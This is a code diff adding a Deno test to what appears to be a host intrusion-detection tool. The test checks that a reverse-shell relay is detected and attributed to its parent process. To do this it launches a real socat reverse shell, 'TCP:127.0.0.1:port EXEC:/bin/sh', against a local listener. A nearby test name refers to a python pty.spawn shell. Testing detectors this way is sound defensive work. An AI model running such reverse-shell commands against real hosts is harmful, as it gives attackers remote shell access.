@@ -130,6 +130,27 @@ Deno.test({
 
 Deno.test({
   name:
+    "ioc relay live: socat TCP:… EXEC:sh (a socketpair, no pty) — the shell is named with socat, its parent",
+  ignore: missing("/usr/bin/socat") !== undefined,
+  async fn() {
+    const l = listener();
+    const socat = spawn("/usr/bin/socat", [`TCP:127.0.0.1:${l.port}`, "EXEC:/bin/sh"]);
+    let shell: number | undefined;
+    try {
+      shell = await waitFor("socat's shell", () => childrenOf(socat.pid, SH)[0]);
+      const fs = await relayFindings(shell);
+      assert.deepEqual(fs.map((f) => f.check_id), ["ioc.process.reverse_shell_relay"]);
+      assert.deepEqual([fs[0].metadata.channel, fs[0].metadata.relay_pid], ["socketpair", socat.pid]);
+    } finally {
+      killPid(shell);
+      await kill(socat);
+      l.close();
+    }
+  },
+});
+
+Deno.test({
+  name:
     "ioc relay live: python -c 'pty.spawn(\"/bin/sh\")' on a socket — the shell is named, python is a direct one",
   ignore: missing("/usr/bin/python3") !== undefined,
   async fn() {
